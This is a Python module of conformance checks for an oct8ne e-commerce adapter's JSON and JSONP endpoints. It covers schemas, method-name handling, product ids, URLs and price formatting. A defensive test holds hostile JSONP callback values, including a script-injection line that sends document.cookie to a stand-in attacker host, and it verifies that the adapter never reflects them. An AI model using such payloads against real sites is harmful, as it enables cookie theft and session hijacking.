"""Checks of the frame protocol: every method as JSON and JSONP, names, callbacks, products."""

from __future__ import annotations

import re
from datetime import date, timedelta
from typing import Any

from oct8ne_adapter.checker.context import CALLBACK, UNKNOWN_PRODUCT, Context
from oct8ne_adapter.checker.http import JSONP_CONTENT_TYPES, parse_jsonp, shorten
from oct8ne_adapter.checker.results import (
    Check,
    Fault,
    NotApplicable,
    Verdict,
    passed,
    verdict,
    warned,
)
from oct8ne_adapter.checker.schemas import schema_problems, unknown_fields

#: The methods every adapter serves (the 2.4 table), in the order they are checked.
CORE_METHODS = (
    "getAdapterInfo",
    "productInfo",
    "productSummary",
    "search",
    "customerData",
    "addToWishList",
    "getOrders",
    "getOrderDetails",
)
#: Callbacks an attacker would send; none may come back as written.
HOSTILE_CALLBACKS = (
    "alert(document.cookie)//",
    "<script>alert(1)</script>",
    "cb);fetch('//evil.example/'+document.cookie);//",
)
_ABSOLUTE_URL = re.compile(r"^(https?:)?//[^/\s]", re.IGNORECASE)


def _summary(payload: Any) -> str:
    """A few words on what a valid answer holds."""
    if isinstance(payload, list):
        return f"{len(payload)} item{'s' if len(payload) != 1 else ''}"
    if not isinstance(payload, dict):
        return "valid"
    if "results" in payload:
        return f"total {payload['total']}, {len(payload['results'])} results"
    if "apiVersion" in payload:
        return f"apiVersion {payload['apiVersion']}, enabled {str(payload['enabled']).lower()}"
    if "wishlist" in payload:
        who = "anonymous visitor" if payload["id"] is None else f"customer {payload['id']}"
        return f"{who}, {len(payload['cart'])} in cart, {len(payload['wishlist'])} in wishlist"
    if "totalItems" in payload:
        return f"{payload['totalItems']} items, {payload['finalPrice']} {payload['currency']}"
    if "reference" in payload:
        lines = len(payload["products"])
        return f"order {payload['reference']}, {lines} product line{'s' if lines != 1 else ''}"
    if "result" in payload:
        return f"result {payload['result']!r}"
    return "valid"


def json_check(method: str) -> Check:
    """`<method>.json`: a plain call answers 200 `application/json` that fits the schema."""

    def run(ctx: Context) -> Verdict:
        answer = ctx.call(method, ctx.method_params(method))
        payload = answer.expect_json()
        ctx.payloads[method] = payload
        problems = schema_problems(method, payload)
        if problems:
            raise Fault(f"{answer.request}: " + "; ".join(problems))
        notes = [f"unknown field, {reason}" for reason in unknown_fields(method, payload)]
        if method in ("productInfo", "productSummary") and UNKNOWN_PRODUCT in answer.request:
            notes.append("no product id known: only an empty answer was checked")
        elif method in ("productInfo", "productSummary") and payload == []:
            notes.append(f"{answer.request}: no product found (is --product-ids right?)")
        if method in ("getOrders", "getOrderDetails") and not ctx.options.token:
            notes.append("without --token only the answer to a wrong token was checked")
        return verdict(notes, f"application/json, valid: {_summary(payload)}")

    return Check(f"{method}.json", f"{method} answers JSON of the 2.4 structure", run)


def jsonp_check(method: str) -> Check:
    """`<method>.jsonp`: with a callback, `/**/cb(<the same JSON>);` as JavaScript, nosniff."""

    def run(ctx: Context) -> Verdict:
        answer = ctx.call(method, [*ctx.method_params(method), ("callback", CALLBACK)])
        answer.expect_status(200)
        if answer.content_type not in JSONP_CONTENT_TYPES:
            raise Fault(
                f"{answer.request}: Content-Type {answer.content_type or '(none)'!r} for JSONP, "
                "not 'application/javascript'"
            )
        if answer.header("x-content-type-options").lower() != "nosniff":
            raise Fault(f"{answer.request}: no 'X-Content-Type-Options: nosniff' on JSONP")
        jsonp = parse_jsonp(answer, CALLBACK)
        if method in ctx.payloads and jsonp.payload != ctx.payloads[method]:
            raise Fault(
                f"{answer.request}: the JSONP payload {shorten(jsonp.payload)} differs from "
                f"the JSON answer {shorten(ctx.payloads[method])}"
            )
        if not jsonp.commented:
            return warned(f"{answer.request}: no '/**/' before the callback (defence in depth)")
        return passed(f"{answer.content_type}, /**/{CALLBACK[:6]}…(…); with nosniff")

    return Check(f"{method}.jsonp", f"{method} answers JSONP with a callback", run)


def _canonical(ctx: Context, method: str, params: list[tuple[str, str]]) -> Any:
    if method not in ctx.payloads:
        ctx.payloads[method] = ctx.call(method, params).expect_json()
    return ctx.payloads[method]


def method_names(ctx: Context) -> Verdict:
    """Method names are case-insensitive."""
    checked = []
    for method in ("getAdapterInfo", "productSummary"):
        params = ctx.method_params(method)
        expected = _canonical(ctx, method, params)
        for spelling in (method.lower(), method.upper()):
            answer = ctx.call(spelling, params)
            if answer.status == 404:
                raise Fault(f"{answer.request}: 404, method names must be case-insensitive")
            if answer.expect_json() != expected:
                raise Fault(f"{answer.request}: answers differently from {method}")
            checked.append(spelling)
    return passed(f"{', '.join(checked)} answer as the documented names do")


def unknown_method(ctx: Context) -> Verdict:
    """An unknown method is a 4xx, not a 200 or a crash."""
    answer = ctx.call("oct8neCheckNoSuchMethod")
    if answer.status >= 500:
        raise Fault(f"{answer.request}: HTTP {answer.status}: {shorten(answer.text)}")
    if answer.status == 200:
        return warned(f"{answer.request}: 200 for an unknown method: {shorten(answer.text)}")
    return passed(f"HTTP {answer.status}")


def hostile_callbacks(ctx: Context) -> Verdict:
    """A callback that is not a JavaScript name is refused or cleaned, never reflected."""
    outcomes = []
    notes = []
    for callback in HOSTILE_CALLBACKS:
        answer = ctx.call("getAdapterInfo", [("callback", callback)])
        if answer.status >= 500:
            raise Fault(f"{answer.request}: HTTP {answer.status} for a hostile callback")
        if callback in answer.text:
            inert = answer.content_type == "application/json" and (
                answer.header("x-content-type-options").lower() == "nosniff"
            )
            if not inert:
                raise Fault(
                    f"{answer.request}: reflected raw as {answer.content_type or '(no type)'}: "
                    f"{shorten(answer.text)}"
                )
            notes.append(f"{answer.request}: echoed inside a JSON error: {shorten(answer.text)}")
        outcomes.append(
            f"HTTP {answer.status}" if answer.status != 200 else "200 with the callback cleaned"
        )
    summary = ", ".join(sorted(set(outcomes)))
    return verdict(notes, f"{len(HOSTILE_CALLBACKS)} hostile callbacks not reflected ({summary})")


def _ids(payload: Any) -> list[str]:
    return [str(item.get("internalId")) for item in payload if isinstance(item, dict)]


def product_ids(ctx: Context) -> Verdict:
    """productInfo/productSummary keep the requested order and skip unknown ids."""
    known = list(ctx.product_ids())
    asked = [*reversed(known[:2]), UNKNOWN_PRODUCT]
    if len(known) == 1:
        asked = [UNKNOWN_PRODUCT, known[0]]
    expected = [product for product in asked if product != UNKNOWN_PRODUCT]
    for method in ("productInfo", "productSummary"):
        params = [("productIds", ",".join(asked))]
        answer = ctx.call(method, params)
        got = _ids(answer.expect_json())
        if got != expected:
            raise Fault(f"{answer.request}: answered ids {got}, expected {expected}")
    return passed(f"asked {','.join(asked)}: got {','.join(expected)} in that order")


def _relative_urls(product: dict[str, Any]) -> list[str]:
    urls = [product.get(name) for name in ("productUrl", "thumbnail", "addToCartUrl")]
    medias = product.get("medias")
    if isinstance(medias, list):
        urls += [media.get("url") for media in medias if isinstance(media, dict)]
    return [url for url in urls if isinstance(url, str) and url and not _ABSOLUTE_URL.match(url)]


def product_urls(ctx: Context) -> Verdict:
    """ProductInfo URLs are absolute, `medias` has an image, addToCartUrl when it is needed."""
    ids = ",".join(ctx.product_ids())
    # Missing fields and wrong types are productInfo.json's to report: only URLs matter here.
    answer = ctx.call("productInfo", [("productIds", ids)])
    products = [item for item in answer.expect_json() if isinstance(item, dict)]
    if not products:
        raise NotApplicable(f"{answer.request} found no product")
    notes = []
    for product in products:
        label = f"product {product.get('internalId')}"
        if product.get("useProductUrl") is False and not product.get("addToCartUrl"):
            raise Fault(f"{label}: useProductUrl is false but addToCartUrl is empty")
        relative = _relative_urls(product)
        if relative:
            notes.append(f"{label}: relative URL {shorten(relative[0])} (must be absolute)")
        if product.get("medias") == []:
            notes.append(f"{label}: medias is empty (the document asks for at least one)")
    return verdict(notes, f"{len(products)} products: absolute URLs, at least one media each")


def _prices(ctx: Context, *presentation: tuple[str, str]) -> list[Any]:
    ids = ",".join(ctx.product_ids())
    products = ctx.valid_json("productSummary", [("productIds", ids), *presentation])
    return [product["formattedPrice"] for product in products]


def _format_difference(ctx: Context, what: str, first: str, second: str, fixed: str) -> Verdict:
    one = _prices(ctx, (what, first), *([("locale", fixed)] if fixed else []))
    other = _prices(ctx, (what, second), *([("locale", fixed)] if fixed else []))
    pairs = [(a, b) for a, b in zip(one, other, strict=False) if a is not None and b is not None]
    if not pairs:
        raise NotApplicable("none of the products has a price")
    different = [(a, b) for a, b in pairs if a != b]
    if not different:
        return warned(
            f"{what}={second} formats prices as {what}={first} does: {shorten(pairs[0][0])}"
        )
    a, b = different[0]
    return passed(f"{what}={first} {a} → {what}={second} {b}")


def locale_format(ctx: Context) -> Verdict:
    """Prices follow the locale: en-US and es-ES format differently."""
    return _format_difference(ctx, "locale", "en-US", "es-ES", "")


def currency_format(ctx: Context) -> Verdict:
    """Prices follow the currency: USD and EUR differ (unless the shop refuses EUR)."""
    return _format_difference(ctx, "currency", "USD", "EUR", "en-US")


def extra_check(method: str, why: str) -> Check:
    """`<method>.present`: an extra method is a warn when absent, validated when present."""

    def run(ctx: Context) -> Verdict:
        answer = ctx.call(method, ctx.method_params(method) or _extra_params(ctx, method))
        if answer.status in (404, 405, 501) or (answer.status == 200 and not answer.body.strip()):
            return warned(f"absent ({answer.request}: HTTP {answer.status}); {why}")
        if 400 <= answer.status < 500 and answer.status != 429:
            return warned(
                f"present, but refused the checker's call: HTTP {answer.status}: "
                f"{shorten(answer.text)}"
            )
        payload = answer.expect_json()
        if payload is None:
            return warned(f"absent ({answer.request} answers null); {why}")
        problems = schema_problems(method, payload)
        if problems:
            raise Fault(f"{answer.request}: " + "; ".join(problems))
        return passed(f"present, valid: {_summary(payload)}")

    return Check(f"{method}.present", f"{method} (outside the 2.4 table) present and valid", run)


def _extra_params(ctx: Context, method: str) -> list[tuple[str, str]]:
    if method != "getSalesReport":
        return []
    today = date.today()
    return [
        ("from", (today - timedelta(days=30)).isoformat()),
        ("to", today.isoformat()),
        ("apiToken", ctx.token_or_wrong()),
    ]


def _per_method() -> list[Check]:
    checks = []
    for method in CORE_METHODS:
        checks += [json_check(method), jsonp_check(method)]
    return checks


CHECKS: list[Check] = [
    *_per_method(),
    Check.documented("methods.case", method_names),
    Check.documented("methods.unknown", unknown_method),
    Check.documented("callback.hostile", hostile_callbacks),
    Check.documented("products.ids", product_ids),
    Check.documented("products.urls", product_urls),
    Check.documented("locale.format", locale_format),
    Check.documented("currency.format", currency_format),
]

EXTRA_CHECKS: list[Check] = [
    extra_check("productRelated", "oct8ne shows related products with it"),
    extra_check("getCart", "oct8ne reads cart totals with it"),
    extra_check("getSalesReport", "oct8ne's sales report needs it"),
]
